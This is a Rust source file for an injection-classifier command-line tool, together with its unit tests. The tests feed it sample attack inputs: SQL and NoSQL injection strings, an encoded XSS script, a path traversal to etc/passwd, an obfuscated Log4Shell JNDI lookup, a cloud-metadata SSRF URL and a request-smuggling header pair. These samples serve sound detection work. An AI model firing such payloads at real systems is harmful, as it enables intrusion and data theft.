//! `picket-sensor classify`: the live injection classifier as a command. Reads JSON lines — a
//! value `{"kind":"value","value":"…"}` or a request `{"kind":"request","method":…,"uri":…,
//! "headers":[[k,v]…],"body":…}` (`value_b64` / `body_b64` for bytes that are not UTF-8) — and
//! writes one verdict line per input line, in order, as soon as it is judged. Memory is bounded
//! by the longest accepted line.

use base64::Engine;
use picket_shared::inject::{self, RequestParts, Verdict};
use serde::Deserialize;
use std::io::{BufRead, Write};

/// Longest input line judged; longer lines get an error verdict (and are skipped, not buffered).
pub const MAX_LINE_BYTES: usize = 1024 * 1024;

#[derive(Debug, Deserialize)]
#[serde(tag = "kind", rename_all = "lowercase")]
enum Item {
    Value {
        value: Option<String>,
        value_b64: Option<String>,
    },
    /// `method` and `version` are accepted and not judged (they are protocol tokens).
    Request {
        uri: String,
        #[serde(default)]
        headers: Vec<(String, String)>,
        body: Option<String>,
        body_b64: Option<String>,
    },
}

/// What a run saw.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct ClassifyStats {
    pub items: u64,
    pub attacks: u64,
    pub errors: u64,
}

fn decode_b64(s: &str) -> Result<Vec<u8>, String> {
    base64::engine::general_purpose::STANDARD
        .decode(s.trim())
        .map_err(|e| format!("invalid base64: {e}"))
}

/// Judges one input line.
pub fn judge(line: &[u8]) -> Result<Verdict, String> {
    let item: Item = serde_json::from_slice(line).map_err(|e| format!("invalid item: {e}"))?;
    match item {
        Item::Value { value, value_b64 } => {
            let raw = match (value, value_b64) {
                (Some(v), _) => v,
                (None, Some(b)) => String::from_utf8_lossy(&decode_b64(&b)?).into_owned(),
                (None, None) => return Err("a value item needs `value` or `value_b64`".into()),
            };
            Ok(inject::scan_value(&raw))
        }
        Item::Request {
            uri,
            headers,
            body,
            body_b64,
        } => {
            let body = match (body, body_b64) {
                (Some(b), _) => b.into_bytes(),
                (None, Some(b)) => decode_b64(&b)?,
                (None, None) => Vec::new(),
            };
            let target = crate::record::normalize_target(&uri)
                .map_err(|_| "uri is neither a path nor an absolute URL".to_owned())?;
            let pairs: Vec<(&str, &str)> = headers
                .iter()
                .map(|(k, v)| (k.as_str(), v.as_str()))
                .collect();
            let content_type = pairs
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
                .map(|(_, v)| *v);
            Ok(inject::scan_request(&RequestParts {
                target,
                headers: &pairs,
                content_type,
                body: &body,
            }))
        }
    }
}

/// The verdict line for a judged item.
pub fn verdict_json(v: &Verdict) -> serde_json::Value {
    let classes: Vec<&str> = v.classes().into_iter().map(|c| c.as_str()).collect();
    let locations: Vec<&str> = {
        let mut l: Vec<&str> = v.findings.iter().map(|f| f.location.as_str()).collect();
        l.dedup();
        l
    };
    serde_json::json!({
        "attack": v.is_attack(),
        "class": classes.first().copied(),
        "classes": classes,
        "rules": v.rules(),
        "locations": locations,
    })
}

/// Reads one line of at most `MAX_LINE_BYTES` into `buf`; `Ok(None)` at end of input,
/// `Ok(Some(false))` when the line was longer (the excess is consumed and dropped).
fn read_line(input: &mut impl BufRead, buf: &mut Vec<u8>) -> std::io::Result<Option<bool>> {
    buf.clear();
    let mut fits = true;
    let mut any = false;
    loop {
        let chunk = input.fill_buf()?;
        if chunk.is_empty() {
            return Ok(any.then_some(fits));
        }
        any = true;
        let (take, done) = match chunk.iter().position(|&b| b == b'\n') {
            Some(p) => (p, true),
            None => (chunk.len(), false),
        };
        if fits && buf.len() + take <= MAX_LINE_BYTES {
            buf.extend_from_slice(&chunk[..take]);
        } else {
            fits = false;
            buf.clear();
        }
        input.consume(take + usize::from(done));
        if done {
            return Ok(Some(fits));
        }
    }
}

/// Classifies every line of `input` onto `output`, flushing after each verdict.
pub fn run(mut input: impl BufRead, mut output: impl Write) -> std::io::Result<ClassifyStats> {
    let mut stats = ClassifyStats::default();
    let mut buf = Vec::with_capacity(4096);
    while let Some(fits) = read_line(&mut input, &mut buf)? {
        let line = buf.trim_ascii();
        if fits && line.is_empty() {
            continue;
        }
        stats.items += 1;
        let out = if !fits {
            Err(format!("line longer than {MAX_LINE_BYTES} bytes"))
        } else {
            judge(line)
        };
        let json = match out {
            Ok(v) => {
                stats.attacks += u64::from(v.is_attack());
                verdict_json(&v)
            }
            Err(e) => {
                stats.errors += 1;
                serde_json::json!({ "attack": false, "error": e })
            }
        };
        serde_json::to_writer(&mut output, &json)?;
        output.write_all(b"\n")?;
        output.flush()?;
    }
    Ok(stats)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(input: &str) -> Vec<serde_json::Value> {
        let mut out = Vec::new();
        run(input.as_bytes(), &mut out).unwrap();
        String::from_utf8(out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    #[test]
    fn values_requests_and_errors_in_order() {
        let out = lines(concat!(
            r#"{"kind":"value","value":"1' or '1'='1"}"#,
            "\n",
            r#"{"kind":"value","value":"hello world"}"#,
            "\n",
            "not json\n",
            r#"{"kind":"value","value_b64":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#,
            "\n",
            r#"{"kind":"request","method":"POST","uri":"/api/login?next=%2Fhome","version":"HTTP/1.1","headers":[["Host","h"],["Content-Type","application/json"]],"body":"{\"user\":{\"$ne\":null}}"}"#,
            "\n",
            r#"{"kind":"request","method":"GET","uri":"/files/..%2f..%2fetc%2fpasswd","headers":[]}"#,
            "\n",
        ));
        assert_eq!(out.len(), 6);
        assert_eq!(out[0]["attack"], true);
        assert_eq!(out[0]["class"], "sqli");
        assert_eq!(out[1]["attack"], false);
        assert_eq!(out[1]["classes"], serde_json::json!([]));
        assert!(out[2]["error"].as_str().unwrap().contains("invalid item"));
        assert_eq!(out[3]["class"], "xss");
        assert_eq!(out[4]["classes"], serde_json::json!(["nosqli"]));
        assert_eq!(out[4]["locations"], serde_json::json!(["body"]));
        assert_eq!(out[5]["class"], "traversal");
        assert!(
            out[5]["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "traversal.dot-dot")
        );
    }

    #[test]
    fn new_classes_and_precision_fixes_flow_into_verdicts() {
        let out = lines(concat!(
            r#"{"kind":"value","value":"${${lower:j}ndi:ldap://x.example/a}"}"#,
            "\n",
            r#"{"kind":"value","value":"http://169.254.169.254/latest/meta-data/"}"#,
            "\n",
            r#"{"kind":"request","method":"POST","uri":"/","headers":[["Content-Length","4"],["Transfer-Encoding","chunked"]],"body":"0\r\n\r\n"}"#,
            "\n",
            r#"{"kind":"request","method":"GET","uri":"/api/items","headers":[["User-Agent","curl/8.5.0"]]}"#,
            "\n",
            r#"{"kind":"request","method":"POST","uri":"/notes","headers":[["Content-Type","application/xml"]],"body":"<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me</body></note>"}"#,
            "\n",
        ));
        assert!(
            out[0]["classes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|c| c == "java")
        );
        assert!(
            out[0]["rules"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "java.jndi-lookup")
        );
        assert_eq!(out[1]["class"], "ssrf");
        assert_eq!(out[2]["classes"], serde_json::json!(["protocol"]));
        assert_eq!(out[2]["locations"], serde_json::json!(["header"]));
        assert_eq!(out[3]["attack"], false);
        assert_eq!(out[4]["attack"], false);
    }

    #[test]
    fn overlong_lines_are_refused_without_buffering_them() {
        let long = format!(
            "{{\"kind\":\"value\",\"value\":\"{}\"}}\n",
            "a".repeat(MAX_LINE_BYTES + 10)
        );
        let input = format!(
            "{long}{}\n",
            r#"{"kind":"value","value":"' union select 1--"}"#
        );
        let out = lines(&input);
        assert_eq!(out.len(), 2);
        assert!(out[0]["error"].as_str().unwrap().contains("longer"));
        assert_eq!(out[1]["class"], "sqli");
    }
}
